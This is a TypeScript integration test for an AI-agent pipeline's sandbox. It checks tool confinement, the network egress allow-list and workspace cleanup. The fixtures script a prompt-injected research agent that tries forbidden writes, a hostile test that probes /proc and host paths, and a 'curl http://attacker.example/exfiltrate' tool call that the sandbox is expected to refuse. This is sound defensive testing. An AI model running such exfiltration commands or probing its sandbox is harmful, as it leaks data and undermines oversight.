import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { and, eq } from 'drizzle-orm';
import { MockActivityEnvironment } from '@temporalio/testing';
import { createActivities } from '../../activities';
import { claimToolRun, listToolCalls, registerToolCalls } from '../../src/db/agent-transcripts';
import { insertIssueIfAbsent } from '../../src/db/issues';
import { createAnthropicClient } from '../../src/llm/anthropic';
import { latestArtifact } from '../../src/db/artifacts';
import { issueLogs } from '../../src/db/schema';
import { mirrorDir, workspaceDir } from '../../src/workspace/git';
import { makeBareRepository } from '../support/git-fixture';
import { newTestIssue, testWorkspaceDeps } from '../support/harness';
import { MODELS, type PipelineHarness, reply, REVIEWER, SAMPLE_REPO, startPipelineHarness } from '../support/pipeline';

/**
 * The sandbox in a whole pipeline on the real Temporal server: tools a stage was not offered
 * never run, the test command runs confined (a hostile test sees the sandbox, not the host),
 * egress follows settings.sandbox.allowedHosts with each decision in the issue's log, and
 * the workspace and mirror are gone once the issue ends.
 */

const HOSTILE_TEST = `
const fs = require('node:fs');
const test = require('node:test');
test('looks around', () => {
  const pids = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name));
  console.log('PIDS ' + pids.length);
  console.log('WORKSPACES ' + fs.existsSync(WORKSPACES_ROOT));
  console.log('CWD ' + process.cwd());
});
`;

describe('sandbox in the pipeline', () => {
  let h: PipelineHarness;
  let registry: http.Server;
  let registryPort: number;
  const registryHits: string[] = [];
  const cleanups: Array<() => void> = [];

  beforeAll(async () => {
    h = await startPipelineHarness();
    registry = http.createServer((request, response) => {
      registryHits.push(request.url ?? '');
      response.end('package metadata\n');
    });
    await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
    registryPort = (registry.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await h.close();
    registry.close();
    for (const cleanup of cleanups) cleanup();
  });

  it('refuses tools a stage was not offered, confines the tests and egress, and removes the workspace at the end', async () => {
    const { remote, cleanup } = await makeBareRepository(SAMPLE_REPO);
    cleanups.push(cleanup);
    const { workspacesDir, mirrorsDir } = testWorkspaceDeps();
    const { organizationId, apiKey } = await h.newOrganization({
      finalApproval: 'required',
      repository: {
        remote,
        baseBranch: 'main',
        host: 'local',
        testCommand: ['node', '--test'],
        allowedCommands: [['node', '--test'], ['curl']],
        commandTimeoutSeconds: 60,
      },
      sandbox: { allowedHosts: [`127.0.0.1:${registryPort}`] },
    });
    const hostile = HOSTILE_TEST.replace('WORKSPACES_ROOT', JSON.stringify(workspacesDir));
    h.fake.onTool('submit_classification', reply.classify());
    h.fake.onTool('submit_triage', reply.triage());
    h.fake.onTool(
      'submit_research',
      // A prompt-injected research agent tries to write and to run: neither is offered to it.
      reply.calls(['write_file', { path: 'pwned.txt', content: 'research wrote this' }], ['run_command', { argv: ['node', '--test'] }]),
      reply.research(),
    );
    h.fake.onTool(
      'submit_change',
      reply.call('write_file', { path: 'test/hostile.test.js', content: hostile }),
      reply.calls(
        ['run_command', { argv: ['curl', '-sS', `http://127.0.0.1:${registryPort}/left-pad`] }],
        ['run_command', { argv: ['curl', '-sS', 'http://attacker.example/exfiltrate'] }],
      ),
      reply.change({ diff: '' }),
    );
    h.fake.onTool('submit_review', reply.review('approve'));

    const { id } = await h.submit(apiKey);
    await h.waitFor(apiKey, id, (issue) => issue.status === 'awaiting_approval');
    const workspace = workspaceDir({ workspacesRoot: workspacesDir, organizationId, issueId: id });
    const mirror = mirrorDir({ mirrorsRoot: mirrorsDir, organizationId, issueId: id });
    expect(fs.existsSync(path.join(workspace, 'pwned.txt'))).toBe(false);
    expect(fs.existsSync(mirror)).toBe(true);

    const calls = await listToolCalls(h.db.db, { organizationId, issueId: id });
    const research = calls.filter((call) => call.loopId.includes(':research:') && ['write_file', 'run_command'].includes(call.name));
    expect(research).toHaveLength(2);
    for (const call of research) {
      expect(call).toMatchObject({ isError: 1, executions: 0 });
      expect(call.output).toMatch(/is not available in the research stage/);
    }

    // Calls of one turn have no order in Postgres: find each by its command.
    const codeCommand = (fragment: string) => calls.find((call) => call.name === 'run_command' && call.loopId.includes(':code:') && JSON.stringify(call.input).includes(fragment));
    const allowed = codeCommand('left-pad');
    const refused = codeCommand('attacker.example');
    expect(allowed?.output).toContain('package metadata');
    expect(refused?.output).toMatch(/attacker\.example:80 is not in settings\.sandbox\.allowedHosts/);
    expect(registryHits).toEqual(['/left-pad']);

    const change = await latestArtifact(h.db.db, organizationId, id, 'CODE_CHANGE');
    const summary = String(change?.metadata['testSummary']);
    expect(summary).toMatch(/CWD \/workspace/);
    expect(summary).toMatch(/WORKSPACES false/);
    expect(Number(/PIDS (\d+)/.exec(summary)?.[1])).toBeLessThan(10);

    const logs = await h.db.db
      .select({ message: issueLogs.message })
      .from(issueLogs)
      .where(and(eq(issueLogs.organizationId, organizationId), eq(issueLogs.issueId, id)));
    const messages = logs.map((log) => log.message);
    expect(messages).toEqual(expect.arrayContaining([expect.stringMatching(/^sandbox egress allowed: http 127\.0\.0\.1:\d+/), expect.stringMatching(/^sandbox egress refused: http attacker\.example:80/)]));
    expect(messages).toEqual(expect.arrayContaining([expect.stringMatching(/research agent called write_file, which this stage does not offer/)]));

    expect((await h.post(apiKey, `/api/issues/${id}/approval`, { decision: 'approve', reviewer: REVIEWER })).status).toBe(200);
    const ended = await h.waitForEnd(apiKey, id);
    expect(ended.status).toBe('completed');
    // finishIssue records the status, then removes the repositories.
    for (let i = 0; i < 50 && (fs.existsSync(workspace) || fs.existsSync(mirror)); i++) await new Promise((resolve) => setTimeout(resolve, 100));
    expect(fs.existsSync(workspace)).toBe(false);
    expect(fs.existsSync(mirror)).toBe(false);
  });

  it('refuses in runAgentTool too: a registered call the stage does not offer never runs', async () => {
    const { remote, cleanup } = await makeBareRepository(SAMPLE_REPO);
    cleanups.push(cleanup);
    const { organizationId, apiKey } = await h.newOrganization({ repository: { remote, baseBranch: 'main', host: 'local' } });
    h.fake.onTool('submit_classification', reply.classify());
    h.fake.onTool('submit_triage', reply.triage({ route: 'research' }));
    h.fake.onTool('submit_research', reply.research());
    const { id } = await h.submit(apiKey);
    await h.waitForEnd(apiKey, id);
    // As if a research turn had registered a write (a bug, or a row written by hand).
    const loop = { organizationId, issueId: id, loopId: `${id}:research:0` };
    await registerToolCalls(h.db.db, loop, [{ toolUseId: 'toolu_injected', name: 'write_file', input: { path: 'pwned.txt', content: 'x' } }]);
    const activities = createActivities({ db: h.db.db, llm: createAnthropicClient({ apiKey: 'k', baseUrl: h.fake.url, timeoutMs: 1000 }), models: MODELS, maxOutputTokens: 1024, ...testWorkspaceDeps() });
    const result = (await new MockActivityEnvironment().run(activities.runAgentTool, { ...loop, toolUseId: 'toolu_injected' })) as { isError: boolean; summary: string };
    expect(result.isError).toBe(true);
    expect(result.summary).toMatch(/^write_file is not available in the research stage/);
    const { workspacesDir } = testWorkspaceDeps();
    expect(fs.existsSync(path.join(workspaceDir({ workspacesRoot: workspacesDir, organizationId, issueId: id }), 'pwned.txt'))).toBe(false);
  });

  it("runs a tool call's command at most once: a retry after an interrupted attempt says so instead of running it again", async () => {
    const { remote, cleanup } = await makeBareRepository(SAMPLE_REPO);
    cleanups.push(cleanup);
    const { organizationId } = await h.newOrganization({ repository: { remote, baseBranch: 'main', host: 'local', allowedCommands: [['node', '-e']] } });
    const { issue } = await insertIssueIfAbsent(h.db.db, newTestIssue(organizationId));
    const loop = { organizationId, issueId: issue.id, loopId: `${issue.id}:code:0` };
    const appendRun = { argv: ['node', '-e', "require('fs').appendFileSync('runs.log', 'ran\\n')"] };
    await registerToolCalls(h.db.db, loop, [
      { toolUseId: 'toolu_once', name: 'run_command', input: appendRun },
      { toolUseId: 'toolu_interrupted', name: 'run_command', input: appendRun },
    ]);
    const activities = createActivities({ db: h.db.db, llm: createAnthropicClient({ apiKey: 'k', baseUrl: h.fake.url, timeoutMs: 1000 }), models: MODELS, maxOutputTokens: 1024, ...testWorkspaceDeps() });
    type ToolResult = { isError: boolean; summary: string; executed: boolean };
    const run = (toolUseId: string, attempt: number) => new MockActivityEnvironment({ attempt }).run(activities.runAgentTool, { ...loop, toolUseId }) as Promise<ToolResult>;

    // Completed, then retried (the completion was lost): one run, the stored result answers.
    expect(await run('toolu_once', 1)).toMatchObject({ isError: false, executed: true });
    expect(await run('toolu_once', 2)).toMatchObject({ isError: false, executed: false });
    // Started by an attempt whose worker died before it stored anything: not run again.
    expect(await claimToolRun(h.db.db, loop, 'toolu_interrupted')).toBe(true);
    const retried = await run('toolu_interrupted', 2);
    expect(retried).toMatchObject({ isError: true, summary: expect.stringContaining('started by an earlier attempt whose worker stopped') });

    // Both came in one turn (one insert, the same created_at): compare as a set.
    const calls = await listToolCalls(h.db.db, { organizationId, issueId: issue.id });
    expect(calls.map((call) => [call.toolUseId, call.executions]).sort()).toEqual([
      ['toolu_interrupted', 1],
      ['toolu_once', 1],
    ]);
    const { workspacesDir } = testWorkspaceDeps();
    const log = fs.readFileSync(path.join(workspaceDir({ workspacesRoot: workspacesDir, organizationId, issueId: issue.id }), 'runs.log'), 'utf8');
    expect(log).toBe('ran\n'); // the command itself ran once in all
  });

  it("runs a round's tests once: a retried finalizeChange reuses their recorded outcome", async () => {
    const { remote, cleanup } = await makeBareRepository(SAMPLE_REPO);
    cleanups.push(cleanup);
    const appendRun = ['node', '-e', "require('fs').appendFileSync('tests.log', 'ran\\n')"];
    const { organizationId } = await h.newOrganization({ repository: { remote, baseBranch: 'main', host: 'local', testCommand: appendRun } });
    const { issue } = await insertIssueIfAbsent(h.db.db, newTestIssue(organizationId));
    const activities = createActivities({ db: h.db.db, llm: createAnthropicClient({ apiKey: 'k', baseUrl: h.fake.url, timeoutMs: 1000 }), models: MODELS, maxOutputTokens: 1024, ...testWorkspaceDeps() });
    type Change = Awaited<ReturnType<typeof activities.finalizeChange>>;
    const input = { organizationId, issueId: issue.id, round: 0 };
    // The first attempt's completion was lost (its worker died after the tests): Temporal retries.
    const first = (await new MockActivityEnvironment({ attempt: 1 }).run(activities.finalizeChange, input)) as Change;
    const retried = (await new MockActivityEnvironment({ attempt: 2 }).run(activities.finalizeChange, input)) as Change;
    expect(first.testsPassed).toBe(true);
    expect(retried).toMatchObject({ testsPassed: true, testSummary: first.testSummary });
    const { workspacesDir } = testWorkspaceDeps();
    expect(fs.readFileSync(path.join(workspaceDir({ workspacesRoot: workspacesDir, organizationId, issueId: issue.id }), 'tests.log'), 'utf8')).toBe('ran\n');
  });
});

